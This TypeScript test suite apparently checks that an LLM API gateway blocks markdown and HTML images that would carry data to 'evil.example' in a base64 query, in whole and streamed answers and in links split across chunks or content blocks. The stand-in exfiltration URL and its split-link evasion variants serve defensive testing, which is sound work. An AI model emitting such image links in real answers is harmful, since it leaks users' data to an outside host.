import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  chunk,
  completion,
  enforced,
  type FakeSystem,
  fakeSystem,
  sendEvents,
  sendJson,
  type TestServer,
  testServer,
} from './harness.ts';

const AT = 'https://evil.example/p?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ';
const WORDS = 'Here is what you asked for, with a few words around it so that windows end in odd places.\n\n';

describe('links in answers, whole and streamed', () => {
  let fake: FakeSystem;
  let server: TestServer;
  let key: string;
  before(async () => {
    fake = await fakeSystem();
    server = await testServer({
      systems: {
        main: enforced(fake),
        strict: enforced(fake, { links: { hosts: ['docs.example.com'] } }),
        claude: enforced(fake, { dialect: 'anthropic' }),
        allowed: enforced(fake, { dialect: 'anthropic', links: { hosts: ['docs.example.com'] } }),
      },
    });
    key = await server.key(['main', 'strict', 'claude', 'allowed']);
  });
  after(async () => {
    await server.stop();
    await fake.close();
  });

  /** Whether an answer goes out, whole and in pieces of each of these sizes. */
  const passes = async (content: string, system = 'main'): Promise<boolean[]> => {
    const body = { model: system, messages: [{ role: 'user', content: 'hello' }] };
    fake.answer = (_req, res) => sendJson(res, completion(content));
    const whole = await server.post('/v1/chat/completions', key, body);
    await whole.text();
    const all = [whole.status === 200];
    for (const size of [1, 7, 40, 400]) {
      const pieces: string[] = [];
      for (let at = 0; at < content.length; at += size)
        pieces.push(chunk({ content: content.slice(at, at + size) }));
      fake.answer = (_req, res) => sendEvents(res, [...pieces, chunk({}, 0, 'stop'), 'data: [DONE]\n\n']);
      const streamed = await (
        await server.post('/v1/chat/completions', key, { ...body, stream: true })
      ).text();
      all.push(!streamed.includes('output-denied'));
      if (!all.at(-1)) assert.ok(!streamed.includes(AT), 'the link itself stayed here');
    }
    return all;
  };
  /** Whether both a picture by reference and its address go out. */
  const shows = async (content: string): Promise<boolean[]> => {
    const body = { model: 'main', messages: [{ role: 'user', content: 'hello' }] };
    const all: boolean[] = [];
    for (const size of [1, 7, 40, 400, content.length]) {
      const pieces: string[] = [];
      for (let at = 0; at < content.length; at += size)
        pieces.push(chunk({ content: content.slice(at, at + size) }));
      fake.answer = (_req, res) => sendEvents(res, [...pieces, chunk({}, 0, 'stop'), 'data: [DONE]\n\n']);
      const text = await (await server.post('/v1/chat/completions', key, { ...body, stream: true })).text();
      const out = [...text.matchAll(/"content":"((?:[^"\\]|\\.)*)"/g)].map(([, one]) => one).join('');
      all.push(out.includes(AT) && out.includes('![x]'));
    }
    return all;
  };
  const ALL = [true, true, true, true, true];
  const NONE = ALL.map(() => false);

  it('an image that carries data out does not pass, wherever it stands', async () => {
    for (const before of ['', WORDS, WORDS.repeat(3)]) {
      assert.deepEqual(await passes(`${before}![x](${AT})`), NONE);
      assert.deepEqual(await passes(`${before}![x][r]\n\n${WORDS}[r]: ${AT}\n`), NONE);
      assert.deepEqual(await passes(`${before}<img srcset="${AT} 1x">\n${WORDS}`), NONE);
    }
  });

  it('code that shows one passes, and what comes after the code does not', async () => {
    const code = `${WORDS}\`\`\`html\n${'<p>a line of code</p>\n'.repeat(12)}<img src="${AT}">\n\`\`\`\n\n${WORDS}`;
    assert.deepEqual(await passes(code), ALL);
    assert.deepEqual(await passes(`${code}![x](${AT})\n`), NONE);
    const list = `- \`\`\`\n  code\n  \`\`\`\n\n${WORDS}![x](${AT})\n`;
    assert.deepEqual(await passes(list), NONE);
  });

  it('sources pass, and no picture takes its address from them', async () => {
    const source = `[1]: ${AT}\n`;
    assert.deepEqual(await passes(`${WORDS}See [a][1].[^2]\n\n${source}[^2]: ${AT}\n${WORDS}`), ALL);
    for (const between of ['', WORDS, WORDS.repeat(40)]) {
      assert.deepEqual(await shows(`${source}\n${between}![x][1]`), NONE);
      assert.deepEqual(await shows(`![x][1]\n\n${between}${source}`), NONE);
    }
  });

  it('a system with hosts of its own loads from these only', async () => {
    assert.deepEqual(await passes(`${WORDS}![x](https://docs.example.com/a.png)`, 'strict'), ALL);
    assert.deepEqual(await passes(`${WORDS}![x](https://other.example/a.png)`, 'strict'), NONE);
    assert.deepEqual(await passes(`${WORDS}[x](https://other.example/a)`, 'strict'), ALL);
  });

  /** Whether an answer of these blocks goes out, whole and streamed. */
  const blocksPass = async (texts: readonly string[], system = 'claude'): Promise<boolean[]> => {
    const body = { model: system, max_tokens: 9, messages: [{ role: 'user', content: 'hello' }] };
    const message = { id: 'msg_1', type: 'message', role: 'assistant', model: 'm', content: [] };
    const event = (type: string, more: object): string =>
      `event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`;
    fake.answer = (_req, res) =>
      sendJson(
        res,
        JSON.stringify({
          ...message,
          content: texts.map((text) => ({ type: 'text', text })),
          stop_reason: 'end_turn',
        }),
      );
    const whole = await server.post('/v1/messages', key, body);
    await whole.text();
    fake.answer = (_req, res) =>
      sendEvents(res, [
        event('message_start', { message }),
        ...texts.flatMap((text, index) => [
          event('content_block_start', { index, content_block: { type: 'text', text: '' } }),
          event('content_block_delta', { index, delta: { type: 'text_delta', text } }),
          event('content_block_stop', { index }),
        ]),
        event('message_stop', {}),
      ]);
    const streamed = await (await server.post('/v1/messages', key, { ...body, stream: true })).text();
    return [whole.status === 200, !streamed.includes('output-denied')];
  };

  it('a link cut over two or three blocks is judged as the whole that is shown, not as the part that is harmless', async () => {
    for (const lead of ['', WORDS]) {
      assert.deepEqual(await blocksPass([`${lead}See !`, `[x](${AT}) there.`]), [false, false]);
      assert.deepEqual(await blocksPass([`${lead}![x`, `](${AT}) there.`]), [false, false]);
      assert.deepEqual(
        await blocksPass([`${lead}![x](https://evil.example/p?d=c2VjcmV0IGRh`, 'dGEgZm9yIHlvdQ) there.']),
        [false, false],
      );
      assert.deepEqual(
        await blocksPass([`${lead}![x](https://evil.example/p?d=c2VjcmV0`, 'IGRhdGEgZm9y', 'IHlvdQ) so.']),
        [false, false],
      );
      assert.deepEqual(
        await blocksPass([`${lead}<im`, `g src="https://evil.example/p?d=c2Vjcm`, `V0IGRhdGEgZm9yIHlvdQ">`]),
        [false, false],
      );
      assert.deepEqual(await blocksPass([`${lead}![x](https://other.example/a`, '.png) there.'], 'allowed'), [
        false,
        false,
      ]);
    }
  });

  it('a source in one block is no address for a picture in another', async () => {
    const source = `See [a][1].\n\n[1]: ${AT}\n\n`;
    assert.deepEqual(await blocksPass([source, WORDS]), [true, true]);
    for (const between of [[], [WORDS], [WORDS, WORDS.repeat(9)]]) {
      assert.deepEqual(await blocksPass([source, ...between, '![x][1]']), [false, false]);
      assert.deepEqual(await blocksPass(['![x][1]\n\n', ...between, source]), [false, false]);
    }
  });

  it('links that end where their block does pass as they would alone', async () => {
    for (const texts of [
      [`${WORDS}See https://docs.example/a`, 'and what comes next.'],
      ['See [the page](https://docs.example/a)', '![a chart](https://docs.example/chart.png)', 'So it is.'],
      ['One. ', 'Two: https://docs.example/a?page=2 .', ' Three!', '[four](https://docs.example/b)'],
    ])
      assert.deepEqual(await blocksPass(texts), [true, true], texts.join('|'));
  });
});
